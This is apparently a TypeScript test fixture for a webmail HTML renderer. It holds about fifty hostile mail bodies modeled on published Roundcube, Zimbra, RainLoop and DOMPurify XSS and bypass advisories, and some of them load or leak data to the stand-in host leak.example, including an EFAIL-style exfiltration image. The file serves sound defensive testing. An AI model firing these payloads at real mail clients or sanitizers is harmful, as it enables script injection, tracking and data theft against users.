// Hostile HTML mail for the browser suite, each modeled on a published webmail XSS or a DOMPurify bypass.
// Every payload tries to (a) run script: it calls __pwned('<id>'), which the suite exposes in every frame, or
// alert(); (b) load something: from leak.example (a remote host) or from the app's own origin (relative URLs,
// resolved against the app's URL in an srcdoc frame, and absolute ones built from `app`). The suite asserts that
// none of it happens. Sources name the advisory the technique comes from; the payloads are reduced to what the
// technique needs against this renderer.

export interface HostilePayload {
  readonly id: string;
  readonly source: string;
  /** Body markup (a text/html part). */
  readonly html: string;
  /** Charset label of the part; default utf-8. */
  readonly charset?: string;
}

const P = (id: string): string => `__pwned('${id}')`;

export function hostilePayloads(app: string): HostilePayload[] {
  return [
    {
      id: 'roundcube-cve-2023-5631-svg-animate-href',
      source: 'Roundcube CVE-2023-5631 (stored XSS through an SVG document, exploited by Winter Vivern)',
      html: `<svg><animate attributeName="href" values="javascript:${P('a')}" /><a id="x"><rect width="100" height="50"/></a></svg>`,
    },
    {
      id: 'roundcube-cve-2024-37383-animate-space',
      source: 'Roundcube CVE-2024-37383 (SVG animate attributeName with a trailing space)',
      html: `<svg><animate attributeName="href " values="javascript:${P('b')}" href="#x"/><a id="x"><text y="20">click</text></a></svg>`,
    },
    {
      id: 'roundcube-cve-2024-42009-desanitization',
      source: 'Roundcube CVE-2024-42009 (desanitization of body attributes into an event handler)',
      html: `<body title="bgcolor=foo" name="bar style=animation-name:progress-bar-stripes onanimationstart=${P('c')} foo=bar">x</body>`,
    },
    {
      id: 'roundcube-cve-2024-42008-animation-handler',
      source: 'Roundcube CVE-2024-42008 / 42010 (CSS animation driving an event handler)',
      html: `<style>@keyframes k{from{color:red}to{color:blue}}</style><b style="animation:k 1ms" onanimationstart="${P('d')}" onanimationend="${P('d2')}">x</b>`,
    },
    {
      id: 'roundcube-cve-2020-35730-svg-xlink',
      source: 'Roundcube CVE-2020-35730 (XSS through an SVG link in a message)',
      html: `<svg><a xlink:href="javascript:${P('e')}"><text x="0" y="20">svg link</text></a></svg>`,
    },
    {
      id: 'roundcube-cve-2023-43770-link-entities',
      source: 'Roundcube CVE-2023-43770 (link references turned into javascript: URLs)',
      html: `<a href="javascript&colon;${P('f')}">[1]</a> <a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${P('f2')}">[2]</a>`,
    },
    {
      id: 'rainloop-cve-2022-29360-img-onerror',
      source: 'RainLoop CVE-2022-29360 (stored XSS in a message body)',
      html: `<IMG SRC="x" ONERROR="${P('g')}"><img src=x onerror=alert(1)>`,
    },
    {
      id: 'snappymail-svg-set-handler',
      source: 'SnappyMail GHSA-2rq7-79vp-ffxm (XSS via SVG in mail)',
      html: `<svg><set attributeName="onmouseover" to="${P('h')}"/><set attributeName="onload" to="${P('h2')}"/></svg>`,
    },
    {
      id: 'horde-svg-onload',
      source: 'Horde IMP CVE-2022-30287-era stored XSS (event handler on SVG)',
      html: `<svg onload="${P('i')}"><circle r="10"/></svg><svg><animate onbegin="${P('i2')}" attributeName="x" dur="1s"/></svg>`,
    },
    {
      id: 'zimbra-cve-2023-37580-style-expression',
      source: 'Zimbra CVE-2023-37580 / CVE-2022-24682 (stored XSS in the mail viewer)',
      html: `<div style="width:expression(${P('j')});background:url(javascript:${P('j2')})">x</div>`,
    },
    {
      id: 'zimbra-form-formaction',
      source: 'Zimbra CVE-2022-27926 and the phishing forms that follow such bugs',
      html: `<form action="${app}/leak/form" method="post"><input name=p value=x autofocus onfocus="${P('k')}"><button formaction="javascript:${P('k2')}">Pay</button></form>`,
    },
    {
      id: 'dompurify-cve-2020-26870-mglyph',
      source: 'DOMPurify < 2.0.17 mXSS (CVE-2020-26870, MathML mglyph/style)',
      html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${P('l')}&gt;">`,
    },
    {
      id: 'dompurify-2.0.0-svg-style-breakout',
      source: 'DOMPurify 2.0.0 bypass (SVG style element breakout, Michał Bentkowski)',
      html: `<svg></p><style><a id="</style><img src=1 onerror=${P('m')}>">`,
    },
    {
      id: 'dompurify-2.2.2-math-form',
      source: 'DOMPurify 2.2.2 bypass (form/math/mtext/mglyph namespace confusion)',
      html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${P('n')}>`,
    },
    {
      id: 'dompurify-cve-2024-45801-depth',
      source: 'DOMPurify CVE-2024-45801 / CVE-2024-47875 (nesting-depth mXSS)',
      html: `${'<div>'.repeat(520)}<svg><p><style><img src=x onerror=${P('o')}>${'</div>'.repeat(520)}`,
    },
    {
      id: 'dompurify-3.1.3-select-style',
      source: 'DOMPurify 3.1.x advisory (select/style parsing differential)',
      html: `<select><style></select><img src=x onerror=${P('p')}></style></select>`,
    },
    {
      id: 'dompurify-annotation-xml',
      source: 'DOMPurify annotation-xml HTML integration point bypasses',
      html: `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${P('q')}></style></annotation-xml></math>`,
    },
    {
      id: 'noscript-title-breakout',
      source: 'DOMPurify / Google Search <noscript> mXSS (2019)',
      html: `<noscript><p title="</noscript><img src=x onerror=${P('r')}>"></p></noscript>`,
    },
    {
      id: 'template-content',
      source: 'DOMPurify template content handling (SAFE_FOR_TEMPLATES advisories)',
      html: `<template><img src=x onerror=${P('s')}></template><template><style></template><img src=x onerror=${P('s2')}></style></template>`,
    },
    {
      id: 'style-closing-in-css-string',
      source: 'Style-block breakout through a CSS string (classic mail sanitizer bug)',
      html: `<style>p{content:"</style><img src=x onerror=${P('t')}>"}</style><p>x</p>`,
    },
    {
      id: 'comment-breakout',
      source: 'Comment parsing differential (DOMPurify SAFE_FOR_XML advisory 2024)',
      html: `<!--><img src=x onerror=${P('u')}>--><!-- --!><img src=x onerror=${P('u2')}> -->`,
    },
    {
      id: 'svg-cdata',
      source: 'CDATA in foreign content (DOMPurify 3.1.x advisory)',
      html: `<svg><![CDATA[><img src=x onerror=${P('v')}>]]></svg>`,
    },
    {
      id: 'xmp-plaintext',
      source: 'Raw-text element differentials (xmp, plaintext)',
      html: `<xmp><img src=x onerror=${P('w')}></xmp><plaintext><img src=x onerror=${P('w2')}>`,
    },
    {
      id: 'javascript-whitespace-split',
      source: 'javascript: split by tabs, newlines and leading control characters (OWASP filter evasion)',
      html: `<a href="jav&#x09;ascript:${P('x')}">a</a><a href="java&#x0A;script:${P('x2')}">b</a><a href="&#x01; javascript:${P('x3')}">c</a>`,
    },
    {
      id: 'data-url-navigation',
      source: 'data: URL documents (RainLoop / SnappyMail link handling)',
      html: `<a href="data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKCdkYXRhJyk8L3NjcmlwdD4=">doc</a><iframe src="data:text/html,<script>parent.${P('y')}</script>"></iframe>`,
    },
    {
      id: 'meta-refresh',
      source: 'meta http-equiv=refresh in mail (phishing redirects, Horde and Roundcube reports)',
      html: `<meta http-equiv="refresh" content="0;url=javascript:${P('z')}"><meta http-equiv="refresh" content="0;url=${app}/leak/refresh">`,
    },
    {
      id: 'base-href',
      source: '<base> hijacking relative URLs (hostile-phishing-form in the corpus)',
      html: `<base href="https://leak.example/"><img src="base.png"><a href="relative">r</a>`,
    },
    {
      id: 'css-import-remote-and-relative',
      source: 'CSS @import tracking (Roundcube remote-content blocking bypasses)',
      html: `<style>@import "https://leak.example/a.css"; @import url(/leak/import.css); @\\69mport '/leak/escaped.css';</style>x`,
    },
    {
      id: 'css-font-face',
      source: '@font-face tracking (Proton / Tutanota remote-content reports)',
      html: `<style>@font-face{font-family:t;src:url(/leak/font.woff)}p{font-family:t}</style><p>x</p>`,
    },
    {
      id: 'css-escaped-url',
      source: 'CSS escapes hiding url() from regex sanitizers',
      html: `<p style="background:u\\72l(/leak/escaped-url)">x</p><p style="background:\\75 rl('${app}/leak/escaped-url2')">y</p>`,
    },
    {
      id: 'css-image-set',
      source: 'image-set() bare strings (sanitizers that only look for url())',
      html: `<div style="background-image:image-set('/leak/image-set' 1x)">x</div><div style="background-image:-webkit-image-set('https://leak.example/i' 1x)">y</div>`,
    },
    {
      id: 'css-behavior-binding',
      source: 'IE behavior / Mozilla -moz-binding (legacy script-in-CSS)',
      html: `<div style="behavior:url(/leak/x.htc);-moz-binding:url(/leak/x.xml#x)">x</div>`,
    },
    {
      id: 'srcdoc-nesting',
      source: 'Nested srcdoc frames (sandbox escape attempts)',
      html: `<iframe srcdoc="&lt;script&gt;parent.${P('aa')}&lt;/script&gt;"></iframe><iframe src="/leak/iframe"></iframe>`,
    },
    {
      id: 'object-embed-applet',
      source: 'Plugin elements (object data, embed src)',
      html: `<object data="javascript:${P('ab')}"></object><embed src="/leak/embed"><object data="/leak/object"></object>`,
    },
    {
      id: 'svg-use-data',
      source: 'SVG <use> with a data: document (DOMPurify and Roundcube reports)',
      html: `<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='${P('ac')}'/&gt;&lt;/svg&gt;#x"/></svg>`,
    },
    {
      id: 'svg-image-feimage-relative',
      source: 'SVG image/feImage tracking pixels',
      html: `<svg><image href="/leak/svg-image"/><filter id="f"><feImage href="${app}/leak/feimage"/></filter><rect filter="url(/leak/filter#f)" width="10" height="10"/></svg>`,
    },
    {
      id: 'svg-foreignobject',
      source: 'foreignObject HTML inside SVG',
      html: `<svg><foreignObject><iframe src="javascript:${P('ad')}"></iframe><img src=x onerror=${P('ad2')}></foreignObject></svg>`,
    },
    {
      id: 'mathml-href',
      source: 'MathML href and maction (SnappyMail / DOMPurify MathML advisories)',
      html: `<math href="javascript:${P('ae')}"><mi>x</mi></math><math><maction actiontype="statusline" xlink:href="javascript:${P('ae2')}"><mi>y</mi></maction></math>`,
    },
    {
      id: 'link-prefetch-stylesheet',
      source: '<link> preloading and style sheets in mail bodies',
      html: `<link rel="prefetch" href="/leak/prefetch"><link rel="stylesheet" href="https://leak.example/s.css"><link rel="preload" as="image" href="/leak/preload">`,
    },
    {
      id: 'relative-img-app-origin',
      source: 'Relative URLs in an srcdoc frame resolve against the app (requests to the webmail origin)',
      html: `<img src="/leak/img"><img src="${app}/leak/img-absolute"><img src="leak/relative">`,
    },
    {
      id: 'background-poster-source',
      source: 'Tracking through legacy and media attributes (hostile-tracking in the corpus)',
      html: `<table background="/leak/bg"><tr><td background="${app}/leak/td">x</td></tr></table><video poster="/leak/poster" autoplay><source src="/leak/source"><track src="/leak/track"></video><audio src="/leak/audio" autoplay></audio>`,
    },
    {
      id: 'srcset-ping-input-image',
      source: 'srcset, ping and <input type=image> tracking',
      html: `<img srcset="/leak/srcset 1x, https://leak.example/s 2x"><a ping="/leak/ping" href="https://leak.example/">a</a><input type="image" src="/leak/input">`,
    },
    {
      id: 'details-toggle-and-autofocus',
      source: 'Event handlers that fire without interaction (ontoggle, onfocus+autofocus)',
      html: `<details open ontoggle="${P('af')}"><summary>s</summary></details><div tabindex=0 autofocus onfocus="${P('af2')}">x</div>`,
    },
    {
      id: 'script-variants',
      source: 'Plain script elements in every spelling (hostile-script in the corpus)',
      html: `<script>${P('ag')}</script><SCRIPT SRC="/leak/script.js"></SCRIPT><script src="https://leak.example/s.js"></script><svg><script>${P('ag2')}</script></svg>`,
    },
    {
      id: 'utf7-charset',
      source: 'UTF-7 charset XSS (Roundcube and Horde advisories of the 2000s)',
      html: `+ADw-script+AD4-__pwned('ah')+ADw-/script+AD4-`,
      charset: 'utf-7',
    },
    {
      id: 'protocol-relative-and-backslash',
      source: 'Protocol-relative and backslash URLs that look relative to naive filters',
      html: `<img src="//leak.example/pr.png"><img src="\\\\leak.example\\bs.png"><img src="/\\leak.example/bs2.png">`,
    },
    {
      id: 'dom-clobbering-and-target',
      source: 'DOM clobbering and target=_top navigation (DOMPurify SANITIZE_NAMED_PROPS)',
      html: `<form name="location"><input name="href" value="javascript:${P('ai')}"></form><a href="https://leak.example/" target="_top" id="top">top</a><img name="getElementById">`,
    },
    {
      id: 'css-cors-mode-images',
      source:
        'CORS-mode image loads that named the app in Origin (issue 12 item 11): mask-image, shape-outside, an SVG mask',
      html: `<div style="width:9px;height:9px;mask-image:url(https://leak.example/mask.png);-webkit-mask-image:url(/leak/mask)"></div><div style="float:left;width:9px;height:9px;shape-outside:url(https://leak.example/shape.png)"></div><svg width="9" height="9"><rect width="9" height="9" mask="url(https://leak.example/m.svg#m)"/></svg><img crossorigin src="https://leak.example/cors.png">`,
    },
    {
      id: 'css-referer-images',
      source:
        'Images loaded from CSS that carried Referer: <app URL> (issue 12 item 11): border-image, list-style-image, cursor',
      html: `<div style="border:8px solid;border-image:url(https://leak.example/border.png) 8">b</div><ul style="list-style-image:url(https://leak.example/list.png)"><li>i</li></ul><p style="cursor:url(https://leak.example/cursor.png),auto">c</p>`,
    },
    {
      id: 'efail-unclosed-image',
      source:
        'EFAIL direct exfiltration (Poddebniak et al., USENIX Security 2018): an image URL left open at the end of a part',
      html: `<img src="https://leak.example/efail?d=`,
    },
    {
      id: 'resize-loops',
      source: 'Sizing loops (issue 12 item 13): a stepped animation, 1000vh, height: 100% with padding',
      html: `<style>@keyframes g{from{height:10px}to{height:900px}}.g{animation:g .4s steps(4) infinite}html,body{height:100%}body{padding:40px}</style><div class="g">g</div><div style="height:1000vh">v</div>`,
    },
    {
      id: 'bidi-override-text',
      source:
        'Bidi overrides in mail text (CVE-2021-42574, "Trojan Source", in mail): reversed URLs and file names',
      html: `<p>invoice\u202Etxt.exe</p><a href="https://leak.example/\u202E">\u202Emoc.elpmaxe</a>`,
    },
  ];
}
